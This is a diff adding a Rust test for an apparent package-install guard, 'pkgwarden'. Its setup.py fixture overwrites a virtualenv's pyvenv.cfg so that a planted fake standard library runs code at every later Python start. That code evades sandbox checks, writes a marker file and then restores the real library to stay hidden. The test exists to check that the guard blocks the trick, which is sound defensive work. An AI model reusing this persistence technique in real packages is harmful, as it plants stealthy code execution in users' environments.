@@ -1126,3 +1126,111 @@ fn a_poetry_project_does_not_get_the_users_source_password() {
         r.code, r.report["findings"], r.stderr
     );
 }
+
+/// An sdist's setup.py (package code, run by the build backend) that
+/// reads the target environment's `pyvenv.cfg` (`sys.prefix`: pip builds
+/// with the environment's own interpreter) and ships, as data files (the
+/// wheel's `.data/data/`, installed at the environment's root), a copy
+/// whose `home` names `<env>/pwstd/bin`, with `pwstd/lib/python3.X/os.py`
+/// (the standard library's landmark), an empty `lib-dynload` and an
+/// `encodings/__init__.py`. At the next start, Python takes `pwstd` as
+/// its base prefix and imports `encodings` from there before anything
+/// else: it writes `~/.config/pwcfg/marker` unless `/proc/self/status`
+/// shows seccomp or no_new_privs, then puts the real standard library
+/// back on `sys.path` and loads the real `encodings` (the start goes on
+/// as usual: `json`, `ssl` import).
+const PYVENV_SETUP: &str = r#"import os, sys
+from setuptools import setup
+ENC = '''import sys, os
+def _pw():
+    try:
+        fd = os.open("/proc/self/status", os.O_RDONLY)
+        s = os.read(fd, 8192).decode("ascii", "replace")
+        os.close(fd)
+    except OSError:
+        return
+    if ("Seccomp:" + chr(9) + "0") not in s or ("NoNewPrivs:" + chr(9) + "1") in s:
+        return
+    try:
+        d = os.path.join(os.environ.get("HOME", "/nonexistent"), ".config", "pwcfg")
+        os.makedirs(d, exist_ok=True)
+        fd = os.open(os.path.join(d, "marker"), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
+        os.write(fd, b"pkgwarden fixture")
+        os.close(fd)
+    except OSError:
+        pass
+_pw()
+_bad = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(__file__))))
+_real = os.path.dirname(os.path.dirname(os.path.realpath(sys.executable)))
+sys.path[:] = [p.replace(_bad, _real, 1) if p.startswith(_bad) else p for p in sys.path]
+sys.base_prefix = sys.base_exec_prefix = _real
+import importlib.util as _u
+_lib = os.path.join(_real, "lib", "python%d.%d" % sys.version_info[:2], "encodings")
+_spec = _u.spec_from_file_location("encodings", os.path.join(_lib, "__init__.py"), submodule_search_locations=[_lib])
+_m = _u.module_from_spec(_spec)
+sys.modules["encodings"] = _m
+_spec.loader.exec_module(_m)
+'''
+here = os.path.dirname(os.path.abspath(__file__))
+ver = "python%d.%d" % sys.version_info[:2]
+gen = os.path.join(here, "gen")
+os.makedirs(gen, exist_ok=True)
+with open(os.path.join(sys.prefix, "pyvenv.cfg")) as f:
+    lines = [l for l in f.read().splitlines() if not l.startswith("home")]
+lines.insert(0, "home = " + os.path.join(sys.prefix, "pwstd", "bin"))
+with open(os.path.join(gen, "pyvenv.cfg"), "w") as f:
+    f.write("\n".join(lines) + "\n")
+with open(os.path.join(gen, "__init__.py"), "w") as f:
+    f.write(ENC)
+for n in ("os.py", "keep"):
+    with open(os.path.join(gen, n), "w") as f:
+        f.write("")
+setup(name="pwcfg", version="1.0.0", packages=["pwcfg"], data_files=[
+    ("", ["gen/pyvenv.cfg"]),
+    ("pwstd/bin", ["gen/keep"]),
+    ("pwstd/lib/" + ver, ["gen/os.py"]),
+    ("pwstd/lib/" + ver + "/lib-dynload", ["gen/keep"]),
+    ("pwstd/lib/" + ver + "/encodings", ["gen/__init__.py"]),
+])
+"#;
+
+/// Class 4 (code at every Python start), block: round 13's "by reading"
+/// item built. A package's data files replace the environment's
+/// `pyvenv.cfg` (no RECORD lists it, no persistence list names it; the
+/// venv's creator wrote it), and its `home` makes a directory the package
+/// installed the base of every later start of that environment's Python.
+/// Block: the install is let in when the next `python -c pass` writes the
+/// marker.
+#[test]
+#[ignore = "round 15: an sdist's data files replace the venv's pyvenv.cfg (home -> a standard library it ships): encodings runs at every Python start; block lets it in"]
+fn a_package_does_not_replace_the_venvs_pyvenv_cfg() {
+    let index = support::pypi::sdist_index("pwcfg", PYVENV_SETUP);
+    let venv_home = TestHome::new();
+    let venv = venv(&venv_home);
+    let py = venv_bin(&venv, "python");
+    let env = ShimEnv::new(&[&venv.join("bin")]);
+    let url = index.index_url();
+    let r = support::installs::install(
+        &env,
+        "block",
+        &["pip", "install", "--index-url", &url, "pwcfg"],
+        env.home.path(),
+        &[],
+    );
+    let marker = env.home.path().join(".config/pwcfg/marker");
+    assert!(!marker.exists(), "the payload acted during the install");
+    let cfg = fs::read_to_string(venv.join("pyvenv.cfg")).unwrap_or_default();
+    eprintln!(
+        "exit {}; pyvenv.cfg now {cfg:?}; findings {:#}",
+        r.code, r.report["findings"]
+    );
+    let serious: Vec<String> = r.serious().iter().map(|f| f.to_string()).collect();
+    let next = run(env.bare(&py).args(["-c", "import json, ssl"]));
+    assert_success(&next, "python after the install");
+    assert!(
+        !serious.is_empty() || !marker.exists(),
+        "block let it in (exit {}, no finding of medium or more) and the next python start ran it\n{:#}",
+        r.code,
+        r.report["findings"]
+    );
+}
